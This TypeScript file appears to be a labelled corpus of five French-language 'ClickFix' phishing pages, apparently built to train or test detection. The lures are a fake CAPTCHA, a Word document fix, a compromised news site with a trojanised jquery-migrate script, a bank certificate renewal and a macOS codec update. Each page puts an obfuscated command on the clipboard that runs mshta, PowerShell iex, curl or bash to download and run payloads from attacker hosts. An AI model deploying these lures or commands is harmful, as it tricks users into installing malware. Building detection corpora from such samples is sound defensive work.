import { type Entry } from '../entry.js';
import { doc, logos, b64, hexOf, splitJs } from '../parts/xe-kit.js';
import { jsRoute, fileRoute } from '../parts/e-bin.js';

/**
 * ClickFix in French: fake "vérification humaine" CAPTCHAs, document and meeting "fixes", a tax-portal
 * signing module and a bank certificate update, each putting a command on the clipboard and telling the
 * visitor to press Win+R (or open Terminal), paste and press Entrée.
 */

const captchaCloudflareFr: Entry = (() => {
  const cmd = `mshta https://verif-humain.cdn-check.top/c/7r2k.hta # ✅ Je ne suis pas un robot – ID de vérification : 4471-RX`;
  return {
    id: 'xe-clickfix-faux-captcha-verification-humaine',
    label: 'clickfix',
    kind: 'clickfix-fake-captcha',
    url: 'https://www.immo-annonces-rabat.com/annonce/villa-souissi-8841',
    body: doc({
      title: 'Vérification de sécurité en cours...',
      css: `body{margin:0;font-family:-apple-system,'Segoe UI',Arial;background:#fff;color:#313131}.m{max-width:600px;margin:90px auto;padding:0 20px}.cb{display:flex;align-items:center;gap:12px;border:1px solid #e0e0e0;background:#fafafa;padding:16px;width:300px;cursor:pointer}.cb i{width:26px;height:26px;border:2px solid #c6c6c6;border-radius:3px;background:#fff}.md{display:none;position:fixed;inset:0;background:rgba(0,0,0,.55)}.md .in{background:#fff;max-width:440px;margin:110px auto;padding:22px;border-radius:6px}.md ol li{margin:8px 0}kbd{background:#eee;border:1px solid #bbb;border-radius:3px;padding:1px 6px}.ft{font-size:12px;color:#888;margin-top:40px}`,
      body: `<div class="m"><h1>www.immo-annonces-rabat.com</h1><p>Vérifiez que vous êtes un humain en complétant l'action ci-dessous.</p>
<div class="cb" id="cb"><i></i><span>Je ne suis pas un robot</span></div><p class="ft">www.immo-annonces-rabat.com doit vérifier la sécurité de votre connexion avant de continuer.<br>Ray ID : 8f2a61c4be0d31a7 · Performances et sécurité par Cloudflare</p></div>
<div class="md" id="md"><div class="in"><h3>Étapes de vérification</h3><ol><li>Appuyez sur la touche Windows <kbd>⊞ Win</kbd> + <kbd>R</kbd></li><li>Dans la fenêtre d'exécution, appuyez sur <kbd>Ctrl</kbd> + <kbd>V</kbd></li><li>Appuyez sur <kbd>Entrée</kbd> pour terminer la vérification</li></ol>
<p style="font-size:12px;color:#666">Vous verrez et taperez : « Je ne suis pas un robot – ID de vérification : 4471-RX »</p><button onclick="md.style.display='none'">Vérifier</button></div></div>
<script>var c=atob('${b64(cmd)}');document.getElementById('cb').onclick=function(){var t=document.createElement('textarea');t.value=decodeURIComponent(escape(c));document.body.appendChild(t);t.select();document.execCommand('copy');t.remove();
navigator.clipboard&&navigator.clipboard.writeText(decodeURIComponent(escape(c)));document.getElementById('md').style.display='block'};</script>`,
    }),
    routes: {
      'verif-humain.cdn-check.top/c/7r2k.hta': fileRoute(`<html><head><HTA:APPLICATION showInTaskbar="no" windowState="minimize"></head><script language="VBScript">CreateObject("WScript.Shell").Run "powershell -nop -w hidden -c ""iex(iwr 'https://verif-humain.cdn-check.top/c/p.ps1' -UseB)""",0:window.close</script></html>`, 'application/hta', '7r2k.hta'),
    },
  };
})();

const onedriveDocFix: Entry = (() => {
  const ps = `powershell -w h -c "$u='https://onedrive-fr-correctif.com/upd/fix.ps1';iex (New-Object Net.WebClient).DownloadString($u)"`;
  return {
    id: 'xe-clickfix-document-word-erreur-affichage',
    label: 'clickfix',
    kind: 'clickfix-document-fix',
    url: 'https://onedrive-fr-correctif.com/view/Contrat_Bail_Commercial_2025.docx',
    body: doc({
      title: 'Contrat_Bail_Commercial_2025.docx - Microsoft Word Online',
      css: `body{margin:0;font-family:'Segoe UI',Arial;background:#f3f2f1}.rb{background:#185abd;color:#fff;padding:10px 16px;font-size:14px}.pg{max-width:680px;margin:20px auto;background:#fff;min-height:600px;padding:50px;filter:blur(2px)}.er{position:fixed;top:140px;left:50%;transform:translateX(-50%);width:470px;background:#fff;border:1px solid #c8c6c4;box-shadow:0 8px 30px rgba(0,0,0,.25);padding:22px}.er h3{color:#a4262c;margin-top:0}.er button{background:#0078d4;color:#fff;border:0;padding:9px 18px}.st{display:none;background:#f3f2f1;padding:10px;margin-top:10px;font-size:14px}`,
      body: `<div class="rb">Word · Contrat_Bail_Commercial_2025.docx · Partagé par Cabinet Alaoui & Associés</div><div class="pg"><h2>CONTRAT DE BAIL COMMERCIAL</h2><p>Entre les soussignés : la société ... ci-après dénommée « le Bailleur » ...</p><p>Article 1 – Objet ...</p></div>
<div class="er"><h3>⚠ Erreur de chargement du document</h3><p>Le document n'a pas pu s'afficher correctement : l'extension « Word Online Viewer » n'est pas installée dans votre navigateur (code 0x80070643).</p><button id="fx">Comment corriger</button>
<div class="st" id="st"><b>Solution :</b><br>1. Cliquez sur « Copier le correctif »<br>2. Faites un clic droit sur le bouton Démarrer › <b>Terminal (Admin)</b> ou Windows PowerShell<br>3. Collez (clic droit) et appuyez sur Entrée<br>4. Actualisez cette page<br><button id="cp" style="margin-top:8px">Copier le correctif</button></div></div>
<script>document.getElementById('fx').onclick=function(){document.getElementById('st').style.display='block'};
document.getElementById('cp').onclick=function(){var h='${hexOf(ps)}',s='';for(var i=0;i<h.length;i+=2)s+=String.fromCharCode(parseInt(h.substr(i,2),16));navigator.clipboard.writeText(s).then(function(){document.getElementById('cp').textContent='✔ Copié'})};</script>`,
    }),
  };
})();

const injectedNewsOverlay: Entry = (() => {
  const host = 'www.le-quotidien-dakar-info.sn';
  const loader = `(function(){if(localStorage.getItem('_vfd'))return;var cmd='cmd /c start /min powershell -w 1 -ep bypass -c "iex(irm '+${splitJs('https://cdnjs-cloud.stats-track.top/q.txt', 7)}+')"';
var o=document.createElement('div');o.style.cssText='position:fixed;inset:0;background:rgba(255,255,255,.97);z-index:99999;font-family:Arial;display:flex;align-items:center;justify-content:center';
o.innerHTML='<div style="max-width:420px;border:1px solid #ddd;padding:24px;box-shadow:0 2px 12px rgba(0,0,0,.1)"><img alt="" width="32" height="32" src="data:image/gif;base64,R0lGODlhAQABAAAAACw="><h3>Vérification reCAPTCHA requise</h3><p>Nous avons détecté un trafic inhabituel depuis votre réseau. Pour continuer votre lecture :</p><p>1. Appuyez sur <b>Windows + R</b><br>2. Collez avec <b>CTRL + V</b><br>3. Appuyez sur <b>Entrée</b></p><button id="_vb" style="background:#4285f4;color:#fff;border:0;padding:10px 20px">Je ne suis pas un robot</button></div>';
document.body.appendChild(o);document.getElementById('_vb').onclick=function(){navigator.clipboard.writeText(cmd+' # reCAPTCHA Verification ID: 9932');this.textContent='Vérification en attente...'}})();`;
  return {
    id: 'xe-clickfix-site-actu-compromis-injection',
    label: 'clickfix',
    kind: 'clickfix-injected-site',
    url: `https://${host}/politique/2025/11/04/conseil-des-ministres-communique/`,
    body: doc({
      title: 'Conseil des ministres : le communiqué intégral – Le Quotidien Dakar Info',
      css: `body{margin:0;font-family:Georgia,serif;background:#fff}.h{border-bottom:3px solid #00853f;padding:14px 24px;font-size:26px;font-weight:bold}.a{max-width:720px;margin:20px auto;line-height:1.7}.a h1{font-size:30px}.meta{color:#777;font-size:13px}`,
      body: `<div class="h">Le Quotidien <span style="color:#00853f">Dakar Info</span></div><article class="a"><h1>Conseil des ministres du mercredi 4 novembre : le communiqué intégral</h1><p class="meta">Par la Rédaction · 4 novembre 2025 à 18h42</p>
<p>Le Chef de l'État a présidé ce mercredi, au Palais de la République, la réunion hebdomadaire du Conseil des ministres. À l'entame de sa communication, il a évoqué la préparation de la campagne agricole et l'approvisionnement du marché en denrées de première nécessité...</p>
<p>Le Premier ministre a, pour sa part, fait le point sur la situation des finances publiques et le suivi des réformes...</p></article>
<script src="/wp-includes/js/jquery/jquery-migrate.min.js?ver=3.4.1"></script>`,
    }),
    routes: {
      [`${host}/wp-includes/js/jquery/jquery-migrate.min.js`]: jsRoute(`/*! jQuery Migrate v3.4.1 | (c) OpenJS Foundation and other contributors | jquery.org/license */
!function(){"use strict";window.jQueryMigrate=window.jQueryMigrate||{version:"3.4.1"}}();
;eval(atob("${b64(loader)}"));`),
    },
  };
})();

const bankCertUpdate: Entry = {
  id: 'xe-clickfix-certificat-banque-en-ligne-expire',
  label: 'clickfix',
  kind: 'clickfix-bank-certificate',
  url: 'https://bmcedirect-certificat.maj-securite.info/entreprises/',
  body: doc({
    title: 'BMCE Direct Entreprises – Certificat de sécurité expiré',
    css: `body{margin:0;font-family:Arial;background:#eef2f6}.c{max-width:560px;margin:50px auto;background:#fff;border-top:5px solid #00539b;padding:24px}.w{background:#fdecea;color:#b71c1c;padding:10px}.k{font-family:Consolas,monospace;background:#f5f5f5;padding:8px;font-size:12px;color:#333}button{background:#00539b;color:#fff;border:0;padding:11px 22px;margin-top:10px}`,
    body: `<div class="c">${logos.boa(32)}<h3>BMCE Direct Entreprises</h3><p class="w">Le certificat de sécurité de votre poste (token logiciel) a expiré le 31/10/2025. Les virements et la signature des remises sont suspendus.</p>
<p>Pour renouveler le certificat sans vous déplacer en agence :</p><ol><li>Cliquez sur « Renouveler le certificat » (la commande est copiée automatiquement)</li><li>Appuyez sur <b>Windows + R</b>, collez avec <b>Ctrl + V</b></li><li>Appuyez sur <b>Entrée</b> et attendez le message de confirmation</li></ol>
<p class="k">Empreinte du certificat : 3A:F1:09:7C:BB:42:D8:11</p><button id="rn">Renouveler le certificat</button></div>
<script>document.getElementById('rn').onclick=function(){var a=['cmd /c curl -s -o %TEMP%\\\\cert.bat https://bmcedirect-certificat.maj-securite.info/entreprises/cert_renew.bat',' && %TEMP%\\\\cert.bat','   :: Renouvellement certificat BMCE Direct - 3AF1097C'];navigator.clipboard.writeText(a.join(''));alert('Commande copiée. Suivez les étapes 2 et 3.')};</script>`,
  }),
  routes: {
    'bmcedirect-certificat.maj-securite.info/entreprises/cert_renew.bat': fileRoute('@echo off\r\npowershell -w hidden -c "iwr https://bmcedirect-certificat.maj-securite.info/e/nc.exe -o $env:APPDATA\\certsvc.exe; start $env:APPDATA\\certsvc.exe"\r\necho Certificat renouvele avec succes.\r\n', 'application/x-bat', 'cert_renew.bat'),
  },
};

const macosTerminalFix: Entry = (() => {
  const cmd = `/bin/bash -c "$(curl -fsSL https://safari-maj-fr.app-update.pro/install.sh)"`;
  return {
    id: 'xe-clickfix-macos-terminal-lecteur-video',
    label: 'clickfix',
    kind: 'clickfix-macos-terminal',
    url: 'https://streaming-can2025-direct.com/match/maroc-senegal',
    body: doc({
      title: 'CAN 2025 en direct – Maroc vs Sénégal – Streaming HD',
      css: `body{margin:0;background:#0a0a0a;color:#fff;font-family:Arial}.pl{max-width:800px;margin:30px auto;height:400px;background:#111;border:1px solid #333;position:relative;display:flex;align-items:center;justify-content:center}.ov{position:absolute;inset:0;background:rgba(0,0,0,.85);display:flex;align-items:center;justify-content:center}.bx{background:#fff;color:#111;max-width:460px;padding:22px;border-radius:10px}.bx code{display:block;background:#f2f2f2;padding:8px;font-size:12px;margin:8px 0}.bx button{background:#0071e3;color:#fff;border:0;padding:10px 22px;border-radius:6px}`,
      body: `<h2 style="text-align:center">🔴 EN DIRECT : Maroc 🇲🇦 – Sénégal 🇸🇳 · Finale CAN</h2><div class="pl">▶<div class="ov"><div class="bx"><h3>Mise à jour du lecteur requise (macOS)</h3>
<p>Votre version de Safari ne prend pas en charge le flux HD. Installez le codec en 10 secondes :</p><ol><li>Ouvrez <b>Terminal</b> (⌘ + Espace, tapez « Terminal »)</li><li>Collez la commande copiée (⌘ + V)</li><li>Appuyez sur <b>Entrée</b> et saisissez votre mot de passe si demandé</li></ol><button id="c">Copier la commande</button></div></div></div>
<script>document.getElementById('c').onclick=function(){navigator.clipboard.writeText(atob('${b64(cmd)}'));this.textContent='Copié ✔'};</script>`,
    }),
    routes: {
      'safari-maj-fr.app-update.pro/install.sh': fileRoute(`#!/bin/bash\nU="https://safari-maj-fr.app-update.pro/d/codec"\ncurl -fsSL "$U" -o /tmp/.codec && xattr -c /tmp/.codec && chmod +x /tmp/.codec && /tmp/.codec &\nosascript -e 'display dialog "Codec HD installé. Actualisez la page." buttons {"OK"}'\n`, 'text/x-shellscript'),
    },
  };
})();

export const entries: Entry[] = [captchaCloudflareFr, onedriveDocFix, injectedNewsOverlay, bankCertUpdate, macosTerminalFix];
